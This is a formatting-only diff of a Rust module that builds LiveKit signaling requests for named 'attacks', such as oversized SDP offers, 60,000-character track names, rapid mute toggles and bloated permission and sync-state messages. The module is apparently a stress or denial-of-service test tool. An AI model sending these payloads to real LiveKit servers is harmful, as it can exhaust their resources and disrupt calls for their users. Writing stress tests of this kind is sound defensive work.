@@ -4,8 +4,8 @@ use std::fmt::Write as _;
 
 use livekit_protocol::signal_request::Message as Request;
 use livekit_protocol::{
-    AddTrackRequest, MuteTrackRequest, SessionDescription, SubscriptionPermission, SyncState, TrackPermission,
-    TrackSource, TrackType, UpdateSubscription, UpdateTrackSettings,
+    AddTrackRequest, MuteTrackRequest, SessionDescription, SubscriptionPermission, SyncState,
+    TrackPermission, TrackSource, TrackType, UpdateSubscription, UpdateTrackSettings,
 };
 
 use super::Attack;
@@ -33,10 +33,16 @@ pub fn message(attack: Attack, number: u64, track_sid: &str) -> Request {
         Attack::HugeOffers => offer(number, &sections(TOO_MANY_SECTIONS)),
         Attack::TrackSettings => Request::TrackSetting(track_settings(number)),
         Attack::SmallOffers => offer(number, &"a=ssrc:1 cname:x\r\n".repeat(60)),
-        Attack::Mutes => Request::Mute(MuteTrackRequest { sid: track_sid.to_owned(), muted: number.is_multiple_of(2) }),
+        Attack::Mutes => Request::Mute(MuteTrackRequest {
+            sid: track_sid.to_owned(),
+            muted: number.is_multiple_of(2),
+        }),
         Attack::Tracks => Request::AddTrack(track(&format!("track-{number}"))),
         Attack::SyncStates => Request::SyncState(sync_state()),
-        Attack::Unread => Request::AddTrack(AddTrackRequest { name: "x".repeat(60_000), ..track("refused") }),
+        Attack::Unread => Request::AddTrack(AddTrackRequest {
+            name: "x".repeat(60_000),
+            ..track("refused")
+        }),
         _ => Request::SubscriptionPermission(permissions()),
     }
 }
@@ -61,7 +67,12 @@ fn offer(number: u64, more: &str) -> Request {
         ["00"; 32].join(":")
     );
     let id = u32::try_from(number).unwrap_or(u32::MAX);
-    Request::Offer(SessionDescription { r#type: "offer".to_owned(), sdp, id, ..SessionDescription::default() })
+    Request::Offer(SessionDescription {
+        r#type: "offer".to_owned(),
+        sdp,
+        id,
+        ..SessionDescription::default()
+    })
 }
 
 fn candidates() -> String {
@@ -89,8 +100,15 @@ fn sections(count: usize) -> String {
 }
 
 fn track_settings(number: u64) -> UpdateTrackSettings {
-    let track_sids = (0..TRACKS).map(|track| format!("TR_{number:04}{track:08}")).collect();
-    UpdateTrackSettings { track_sids, width: 640, height: 360, ..UpdateTrackSettings::default() }
+    let track_sids = (0..TRACKS)
+        .map(|track| format!("TR_{number:04}{track:08}"))
+        .collect();
+    UpdateTrackSettings {
+        track_sids,
+        width: 640,
+        height: 360,
+        ..UpdateTrackSettings::default()
+    }
 }
 
 fn permissions() -> SubscriptionPermission {
@@ -98,11 +116,23 @@ fn permissions() -> SubscriptionPermission {
         participant_identity: format!("participant-{number}-{}", "x".repeat(60)),
         ..TrackPermission::default()
     };
-    SubscriptionPermission { all_participants: false, track_permissions: (0..LARGE / 80).map(entry).collect() }
+    SubscriptionPermission {
+        all_participants: false,
+        track_permissions: (0..LARGE / 80).map(entry).collect(),
+    }
 }
 
 fn sync_state() -> SyncState {
-    let sids = (0..LARGE / 20).map(|number| format!("TR_{number:014}")).collect();
-    let subscription = UpdateSubscription { track_sids: sids, subscribe: true, participant_tracks: Vec::new() };
-    SyncState { subscription: Some(subscription), ..SyncState::default() }
+    let sids = (0..LARGE / 20)
+        .map(|number| format!("TR_{number:014}"))
+        .collect();
+    let subscription = UpdateSubscription {
+        track_sids: sids,
+        subscribe: true,
+        participant_tracks: Vec::new(),
+    };
+    SyncState {
+        subscription: Some(subscription),
+        ..SyncState::default()
+    }
 }
